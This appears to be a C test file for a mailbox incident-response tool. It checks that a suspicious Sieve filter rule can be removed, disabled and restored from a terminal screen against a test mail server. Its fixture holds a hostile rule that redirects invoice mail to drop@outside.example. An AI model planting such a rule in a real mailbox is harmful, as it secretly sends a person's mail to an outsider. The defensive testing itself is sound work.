/* test_act_screen.c - the mailbox changed from the screen, by keys alone, on a real server: shown
 * first, armed by the mailbox's name, taken back; and what was interrupted is asked for when the
 * screen copies the mailbox. */
#include "bench_act.h"
#include "robot.h"

#include "case/evidence.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#define HOSTILE                                                                                    \
    "# rule:[.]\nif header :contains \"subject\" \"invoice\"\n{\n"                                 \
    "  redirect \"drop@outside.example\";\n}\n"
#define GOOD "# rule:[lists]\nif header :is \"list-id\" \"a\" { fileinto \"Lists\"; }\n"

static const char script[] = "require [\"fileinto\"];\n" HOSTILE GOOD;
static const char without[] = "require [\"fileinto\"];\n" GOOD;

enum { WORDS = 12, WORD = TEMP_PATH + 200 };

/* `mailmedic` with these words, NULL at their end. */
static struct robot *start_words(const char *const *words)
{
    static char room[WORDS][WORD];
    static char *argv[WORDS + 1];
    size_t count = 0;

    for (; words[count]; count++) {
        assert_true(count < WORDS && strlen(words[count]) < WORD);
        snprintf(room[count], WORD, "%s", words[count]);
        argv[count] = room[count];
    }
    argv[count] = NULL;
    return robot_start(&(struct robot_options){.argv = argv, .height = 40, .width = 100});
}

/* The screen on the bench's mailbox; it begins with a copy of it. */
static struct robot *start(const struct bench *bench)
{
    char url[200], sieve[80], command[120];
    const char *words[] = {PROGRAM,
                           "screen",
                           bench->path,
                           url,
                           "--sieve",
                           sieve,
                           "--ca-file",
                           bench->scene->dovecot.ca_file,
                           "--password-command",
                           command,
                           NULL};

    snprintf(url, sizeof(url), "imaps://%s@localhost:%u", bench->user, bench->imaps);
    snprintf(sieve, sizeof(sieve), "localhost:%u", bench->sieve);
    snprintf(command, sizeof(command), "echo %s", DOVECOT_PASSWORD);
    return start_words(words);
}

static void leave(struct robot *robot)
{
    robot_keys(robot, "q");
    assert_int_equal(robot_stop(robot), 0);
}

static void press(struct robot *robot, const char *keys, const char *want)
{
    robot_keys(robot, keys);
    robot_wait_for(robot, want);
}

static void expect_script(struct bench *bench, const char *want)
{
    struct buf have;

    assert_true(bench_script(bench, "main", &have));
    assert_string_equal(buf_c(&have), want);
    buf_dispose(&have);
}

static void arm(struct robot *robot, const char *mailbox)
{
    press(robot, "Y", "Type the mailbox's name");
    press(robot, mailbox, mailbox);
    press(robot, "\r", "To sign in to the server for this");
    robot_keys(robot, "\r");
}

static void a_rule_is_removed_and_put_back_by_keys(void **state)
{
    struct bench bench;
    struct robot *robot;

    bench_open(&bench, scene_of(state), script);
    robot = start(&bench);
    robot_wait_for(robot, "nothing was changed on the server");
    press(robot, "3", "drop@outside.example");
    press(robot, "Y", "remove-rule 1");
    press(robot, "2\r", "Nothing was sent so far.");
    robot_wait_for(robot, "PUTSCRIPT \"main\"");
    robot_wait_for(robot, "- # rule:[.]");
    robot_wait_for(robot, "Kept as evidence, for the way back");
    expect_script(&bench, script);

    /* the control: with another mailbox's name nothing leaves */
    press(robot, "Y", "Type the mailbox's name");
    press(robot, "u99@mill.example\r", "this would change");
    robot_wait_for(robot, "Mailbox: u99@mill.example"); /* no password is asked for */
    press(robot, "\033", "Left as it was");
    expect_script(&bench, script);
    assert_int_equal(bench_actions(&bench), 0);

    arm(robot, bench.user);
    robot_wait_for(robot, "Action 1: done");
    expect_script(&bench, without);
    press(robot, "0", "done         remove-rule");
    press(robot, "\r", "Said to the server");
    robot_wait_for(robot, "The script, kept as evidence");
    press(robot, "u", "undo: action 1");
    arm(robot, bench.user);
    robot_wait_for(robot, "Action 2: done");
    expect_script(&bench, script);
    assert_true(bench_is_active(&bench, "main"));
    press(robot, "\033", "Action 1: remove-rule");
    robot_wait_for(robot, "taken back");
    press(robot, "u", "Not now: it was taken back");
    leave(robot);
    bench_verify(&bench);
    bench_close(&bench);
}

static void a_finding_leads_to_its_rule_and_back(void **state)
{
    struct bench bench;
    struct robot *robot;

    bench_open(&bench, scene_of(state), script);
    robot = start(&bench);
    robot_wait_for(robot, "nothing was changed on the server");
    press(robot, "2", "Somebody set a rule");
    press(robot, "Y", "disable-rule 1");
    press(robot, "1\r", "if false # header");
    arm(robot, bench.user);
    robot_wait_for(robot, "Action 1: done");
    press(robot, "u", "undo: action 1");
    arm(robot, bench.user);
    robot_wait_for(robot, "Action 2: done");
    expect_script(&bench, script);
    leave(robot);
    bench_close(&bench);
}

/* An intent that was written down, and no end: as a power cut leaves it. */
static void leave_open(struct bench *bench)
{
    struct casefile *cf = NULL;
    struct error err = {0};
    struct arena arena = {0};
    struct account *accounts;
    struct action_row row = {.verb = "remove-rule",
                             .target = "rule 1 of script \"main\"",
                             .place = str_of("main"),
                             .commands = "PUTSCRIPT \"main\"",
                             .detail = "sieve active:1>1",
                             .actor = "Lan"};
    size_t count;

    assert_true(casefile_open(&cf, bench->path, CASE_WRITE, &err));
    assert_true(account_list(cf, &arena, &accounts, &count, &err) && count == 1);
    row.user = accounts[0].user;
    row.host = accounts[0].host;
    assert_true(casefile_begin(cf, &err) && evidence_put(cf, str_of(script), &row.before, &err) &&
                evidence_put(cf, str_of(without), &row.after, &err) &&
                action_begin(cf, &row, &err) && casefile_commit(cf, &err));
    casefile_close(cf);
    arena_dispose(&arena);
}

static void what_was_interrupted_is_asked_for_by_the_copy(void **state)
{
    static const struct {
        const char *on_server, *shown;
        enum action_outcome outcome;
    } cases[] = {
        {script, "NOT done", ACTION_NOT_DONE},
        {without, "done", ACTION_DONE},
        {GOOD, "DIFFERS", ACTION_DIFFERS},
    };

    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        struct bench bench;
        struct robot *robot;
        struct error err = {0};
        char line[80];

        bench_open(&bench, scene_of(state), script);
        if (bench_acquire(&bench) != 10)
            fail_msg("acquire: %s", buf_c(&bench.said));
        leave_open(&bench);
        assert_int_equal(bench_action(&bench, 0)->ended, 0);
        if (i == 0) { /* the control: nobody was asked, and it says so */
            robot = start_words((const char *[]){PROGRAM, bench.path, NULL});
            press(robot, "0", "NOT KNOWN");
            leave(robot);
            assert_int_equal(bench_action(&bench, 0)->ended, 0);
        }
        if (!dovecot_script(&bench.scene->dovecot, bench.user, "main", true, cases[i].on_server,
                            &err))
            fail_msg("%s", err.text);
        robot = start(&bench);
        robot_wait_for(robot, "outcome unknown; the server was asked");
        robot_wait_for(robot, "0 new; action 1"); /* the copy has ended */
        snprintf(line, sizeof(line), "%-12s remove-rule", cases[i].shown);
        press(robot, "0", line);
        press(robot, "\r", "outcome unknown after an interruption; asked again");
        leave(robot);
        assert_int_equal(bench_action(&bench, 0)->outcome, cases[i].outcome);
        assert_int_not_equal(bench_action(&bench, 0)->ended, 0);
        bench_verify(&bench);
        bench_close(&bench);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_rule_is_removed_and_put_back_by_keys),
        cmocka_unit_test(a_finding_leads_to_its_rule_and_back),
        cmocka_unit_test(what_was_interrupted_is_asked_for_by_the_copy),
    };

    return cmocka_run_group_tests(tests, scene_open, scene_close);
}
